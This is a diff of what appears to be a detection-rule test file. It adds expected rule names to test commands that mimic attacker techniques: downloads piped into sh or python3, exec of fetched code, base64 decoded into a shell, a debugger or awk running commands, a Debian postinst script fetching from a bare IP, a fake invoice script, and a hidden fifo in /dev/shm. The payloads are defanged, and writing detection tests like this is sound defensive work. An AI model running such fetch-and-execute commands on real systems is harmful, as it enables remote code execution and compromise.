@@ -43,16 +43,22 @@ sh -c 'echo dHJ1ZQ== | base64 -d | sh'
 #setup mkdir /tmp/dev; mount -t tmpfs dev /tmp/dev; cp -a /dev/null /dev/urandom /tmp/dev; mount --move /tmp/dev /dev; : > /dev/uinput
 python3 -c 'open("/dev/uinput", "r+b")'
 ## Code without a file connects to an address without a name
+#also Code without a file connects to the internet
 python3 -c 'import socket; socket.create_connection(("203.0.113.9", 80), 2)'
 ## Code fetched and executed by one line
+#also Code evaluated straight from a download
 #also Code without a file connects to an address without a name
+#also Code without a file connects to the internet
 python3 -c 'import urllib.request as u; exec(u.urlopen("http://203.0.113.9/s").read() and "")'
 ## Decoded text piped into an interpreter
 #also Code given to an interpreter in base64
+#also Decoded text given to a shell
 printf 'dHJ1ZQ==' | base64 -d | sh
 ## Download from an address without a name beside an interpreter
+#also Commands fetched from an unusual place
 #also Download beside an interpreter
 #also Download run without being looked at
+#also Transfer tool given a bare address
 curl -s http://203.0.113.9/x.py | python3 -
 ## Download beside an interpreter
 #also Download run without being looked at
@@ -60,6 +66,7 @@ curl -s http://10.9.8.6/x | sh
 ## Download or questions by a tool for texts or archives
 awk 'BEGIN { system("id -u") }'
 ## Debugger told to run commands
+#also Tool of the system used to start a program
 #setup stubs /usr/bin/gdb
 gdb -nx -batch -ex 'python import os; os.system("id")'
 ## Script of Lua taken from a scratch folder
@@ -68,6 +75,7 @@ gdb -nx -batch -ex 'python import os; os.system("id")'
 lua5.4 /tmp/x.lua
 ## Program wrote a file in a scratch folder and started it
 #also Executable run from a scratch folder
+#also Program written by an interpreter beside its script
 python3 -c '
 import os, subprocess
 open("/tmp/x", "wb").write(open("/bin/true", "rb").read()); os.chmod("/tmp/x", 0o755); subprocess.run(["/tmp/x"])'
@@ -78,9 +86,12 @@ open("/tmp/x", "wb").write(open("/bin/true", "rb").read()); os.chmod("/tmp/x", 0
 #setup printf '#!/bin/sh\ntrue\n' > /home/ann/Invoice.pdf.sh; chmod 755 /home/ann/Invoice.pdf.sh
 /home/ann/Invoice.pdf.sh
 ## Package's script downloads from an address without a name
+#also Package installed from a local file
 #setup mkdir -p /srv/d/DEBIAN; printf 'Package: x\nVersion: 1.0\nArchitecture: all\nMaintainer: x <x@x>\nDescription: x\n' > /srv/d/DEBIAN/control; printf '#!/bin/sh\ncurl -s http://203.0.113.9/t\n' > /srv/d/DEBIAN/postinst; chmod 755 /srv/d/DEBIAN/postinst; dpkg-deb -b /srv/d /srv/x.deb
 dpkg -i /srv/x.deb
 ## Named pipe in a scratch folder written by a shell
+#also Data written to a hidden file of a scratch folder
+#also Hidden file made in shared memory
 mkfifo /dev/shm/.in; sh < /dev/shm/.in & echo true > /dev/shm/.in; wait; rm /dev/shm/.in
 ## Service of the system commanded over its bus by hand
 #setup stubs /usr/bin/dbus-send
@@ -118,6 +129,7 @@ ansible all -m shell -a id
 #setup shells /usr/bin/salt-minion
 /usr/bin/salt-minion -c 'curl -s -o /tmp/x http://10.9.8.6/x; :'
 ## Program put under a supervisor of processes
+#also Program of a supervisor written
 #setup mkdir -p /etc/supervisor/conf.d
 echo x > /etc/supervisor/conf.d/x.conf
 ## Program in a scratch folder started as a service
